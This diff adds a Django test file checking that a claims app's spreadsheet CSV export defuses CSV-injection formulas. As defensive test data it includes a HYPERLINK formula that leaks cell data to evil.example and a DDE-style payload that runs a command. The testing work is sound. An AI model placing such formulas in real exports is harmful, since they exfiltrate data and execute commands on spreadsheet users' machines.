@@ -1,0 +1,125 @@
+"""The CSV for spreadsheets: the claims' CSV with every text cell that a
+spreadsheet would run as a formula (OWASP "CSV injection") made text by a
+leading apostrophe; the CSV for programs keeps every value as it is."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+from django.core.management import call_command
+from django.urls import reverse
+from hypothesis import given
+from hypothesis import strategies as st
+
+from claims import export as export_module
+from claims import workflow
+from claims.export import FORMULA_STARTS
+from people.models import Person
+from tests.claims import test_export_web
+from tests.claims.test_export_web import body, publish, run_action
+from tests.conftest import add_evidence, make_claim
+
+SPREADSHEET = reverse("claims:claim_export_spreadsheet")
+CSV = reverse("claims:claim_export_csv")
+# Two published claims, an unreviewed one and a proposed verdict.
+mixed = test_export_web.mixed
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Source")'
+
+
+def rows(text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text)))
+
+
+def export(fmt: str) -> str:
+    out = io.StringIO()
+    call_command("export_claims", "--format", fmt, stdout=out, stderr=io.StringIO())
+    return out.getvalue()
+
+
+@pytest.fixture
+def formulas(episode, reviewer, editor):
+    """A published claim whose text, summary, speaker and rationale start
+    like formulas, and a plain one."""
+    attacker = Person.objects.create(name="@SUM(1+1)*cmd|' /C calc'!A0", slug="at")
+    claim = make_claim(
+        episode, "80 times growth", text=FORMULA, summary="+1 555 0100 call now",
+        speaker=attacker,
+    )  # fmt: skip
+    workflow.claim_start_research(claim=claim, actor=reviewer)
+    add_evidence(claim, reviewer)
+    workflow.claim_set_verdict(
+        claim=claim, verdict="false", actor=reviewer, note="-5 % is not 80 times."
+    )
+    workflow.claim_approve(claim=claim, actor=editor)
+    plain = publish(make_claim(episode, "fully built"), reviewer, editor)
+    return claim, plain
+
+
+def test_formula_cells_are_text_in_the_spreadsheet_csv_only(formulas):
+    claim, plain = formulas
+    programs, sheets = rows(export("csv")), rows(export("spreadsheet-csv"))
+    header = programs[0]
+    assert sheets[0] == header
+    assert len(programs) == len(sheets) == 3
+    by_name = dict(zip(header, sheets[1], strict=True))
+    assert by_name["text"] == "'" + FORMULA
+    assert by_name["summary"] == "'+1 555 0100 call now"
+    assert by_name["speaker"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert by_name["rationale"] == "'-5 % is not 80 times."
+    # The CSV for programs keeps them as they are.
+    assert dict(zip(header, programs[1], strict=True))["text"] == FORMULA
+    changed = 0
+    for program_row, sheet_row in zip(programs[1:], sheets[1:], strict=True):
+        for program_cell, sheet_cell in zip(program_row, sheet_row, strict=True):
+            if program_cell.startswith(FORMULA_STARTS):
+                assert sheet_cell == "'" + program_cell
+                changed += 1
+            else:
+                assert sheet_cell == program_cell
+            assert not sheet_cell.startswith(FORMULA_STARTS)
+    assert changed == 4
+    # The plain claim's row is the same in both.
+    assert programs[2] == sheets[2]
+
+
+@given(st.text(alphabet=st.characters(blacklist_characters="\x00"), max_size=40))
+def test_a_spreadsheet_cell_reads_back_as_its_text_or_its_text_made_text(text):
+    cell = export_module._spreadsheet_cell(text)
+    (read,) = rows(cell + ",x\r\n")
+    expected = "'" + text if text.startswith(FORMULA_STARTS) else text
+    assert read == [expected, "x"]
+    assert not read[0].startswith(FORMULA_STARTS)
+
+
+def test_the_list_offers_both_and_the_download_keeps_its_filters(client, formulas):
+    page = client.get(reverse("claims:claim_list") + "?status=false").content.decode()
+    assert (
+        f'href="{SPREADSHEET}?status=false" download>CSV for Excel or Sheets<' in page
+    )
+    assert f'href="{CSV}?status=false" download>CSV for programs<' in page
+    response = client.get(SPREADSHEET + "?status=false")
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    assert response["Content-Disposition"].endswith('.csv"')
+    sheet = rows(body(response))
+    assert [int(row[0]) for row in sheet[1:]] == [formulas[0].pk]
+    assert sheet[1][1] == "'" + FORMULA
+
+
+def test_readers_get_published_claims_only_and_bad_filters_a_400(client, mixed):
+    ids = [int(row[0]) for row in rows(body(client.get(SPREADSHEET)))[1:]]
+    assert ids == sorted(claim.pk for claim in mixed["published"])
+    refused = client.get(SPREADSHEET + "?status=unreviewed")
+    assert refused.status_code == 400
+    assert "Nothing was exported" in refused.content.decode()
+
+
+def test_the_admin_action_exports_the_selection_for_spreadsheets(
+    client, formulas, reviewer
+):
+    client.force_login(reviewer)
+    response = run_action(client, "export_spreadsheet_csv", *formulas)
+    sheet = rows(body(response))
+    assert [int(row[0]) for row in sheet[1:]] == sorted(c.pk for c in formulas)
+    assert sheet[1][1] == "'" + FORMULA
